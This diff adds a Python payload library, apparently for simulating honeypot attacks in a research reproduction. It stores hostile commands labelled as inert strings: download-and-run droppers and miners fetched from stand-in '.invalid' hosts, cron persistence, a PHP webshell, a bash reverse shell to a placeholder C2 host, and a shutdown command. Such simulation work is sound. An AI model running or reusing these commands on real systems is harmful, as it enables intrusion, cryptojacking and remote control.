@@ -1,0 +1,147 @@
+"""Attack payload library.
+
+Payloads are **inert strings** modelled on public reporting about the
+campaigns the paper observed (Kinsing, generic Monero miners, one
+vigilante).  Each carries a resource profile so the honeypots' out-of-band
+resource monitor has something to trip on, and a stable fingerprint so the
+analysis can group repeated attacks "with known payloads".
+"""
+
+from __future__ import annotations
+
+import enum
+from dataclasses import dataclass
+
+from repro.util.rand import stable_hash
+
+
+class PayloadKind(enum.Enum):
+    CRYPTOMINER = "cryptominer"
+    WEBSHELL = "webshell"
+    VIGILANTE = "vigilante"
+    RECON = "recon"
+    BOTNET = "botnet"
+
+
+@dataclass(frozen=True)
+class Payload:
+    """One concrete payload variant."""
+
+    name: str
+    kind: PayloadKind
+    command: str
+    cpu_load: float        # % of one core once running
+    network_load: float    # Mbps once running
+    persists: bool = False  # installs a cronjob / systemd unit
+
+    @property
+    def fingerprint(self) -> int:
+        return stable_hash("payload", self.command)
+
+
+def kinsing_variant(actor: str, index: int) -> Payload:
+    """Kinsing-style cryptominer: download-and-run a dropper script.
+
+    The real campaign "initially focused on insecure Docker instances
+    [and] is now also spreading to Hadoop".
+    """
+    return Payload(
+        name=f"kinsing/{actor}/{index}",
+        kind=PayloadKind.CRYPTOMINER,
+        command=(
+            f"curl -fsSL hxxp://dropper.{actor}.invalid/k{index}.sh | sh && "
+            f"(crontab -l; echo '* * * * * kinsing.{actor}') | crontab - "
+            "# [inert simulation string]"
+        ),
+        cpu_load=95.0,
+        network_load=2.0,
+        persists=True,
+    )
+
+
+def monero_killer_variant(actor: str, index: int) -> Payload:
+    """Miner that kills competing malware and persists via cron."""
+    return Payload(
+        name=f"monero-killer/{actor}/{index}",
+        kind=PayloadKind.CRYPTOMINER,
+        command=(
+            f"pkill-competitors && (crontab -l; echo '* * * * * miner.{actor}.{index}') "
+            "| crontab - && run-xmrig # [inert simulation string]"
+        ),
+        cpu_load=98.0,
+        network_load=1.0,
+        persists=True,
+    )
+
+
+def generic_miner_variant(actor: str, index: int) -> Payload:
+    return Payload(
+        name=f"miner/{actor}/{index}",
+        kind=PayloadKind.CRYPTOMINER,
+        command=(
+            f"wget -q hxxp://pool.{actor}.invalid/m{index} -O /tmp/m && /tmp/m "
+            "# [inert simulation string]"
+        ),
+        cpu_load=90.0,
+        network_load=1.5,
+    )
+
+
+def webshell_variant(actor: str, index: int) -> Payload:
+    """PHP template webshell planted after a CMS installation hijack."""
+    return Payload(
+        name=f"webshell/{actor}/{index}",
+        kind=PayloadKind.WEBSHELL,
+        command=(
+            f"<?php /* shell {actor}-{index} */ system($_GET['c']); ?> "
+            "# [inert simulation string]"
+        ),
+        cpu_load=5.0,
+        network_load=0.2,
+        persists=True,
+    )
+
+
+def vigilante_payload() -> Payload:
+    """The Jupyter Lab vigilante: shuts the insecure server down."""
+    return Payload(
+        name="vigilante/shutdown",
+        kind=PayloadKind.VIGILANTE,
+        command="shutdown -h now # you should add a password to this notebook",
+        cpu_load=0.0,
+        network_load=0.0,
+    )
+
+
+def recon_variant(actor: str, index: int) -> Payload:
+    return Payload(
+        name=f"recon/{actor}/{index}",
+        kind=PayloadKind.RECON,
+        command=f"uname -a; id; nproc # probe {actor}-{index} [inert]",
+        cpu_load=1.0,
+        network_load=0.1,
+    )
+
+
+def botnet_variant(actor: str, index: int) -> Payload:
+    return Payload(
+        name=f"botnet/{actor}/{index}",
+        kind=PayloadKind.BOTNET,
+        command=(
+            f"bash -i >& /dev/tcp/c2.{actor}.invalid/{4000 + index} 0>&1 "
+            "# [inert simulation string]"
+        ),
+        cpu_load=10.0,
+        network_load=60.0,  # trips the bandwidth threshold
+    )
+
+
+#: variant factories by archetype name (used by the actor builder)
+PAYLOAD_FACTORIES = {
+    "kinsing": kinsing_variant,
+    "monero-killer": monero_killer_variant,
+    "miner": generic_miner_variant,
+    "webshell": webshell_variant,
+    "recon": recon_variant,
+    "botnet": botnet_variant,
+}
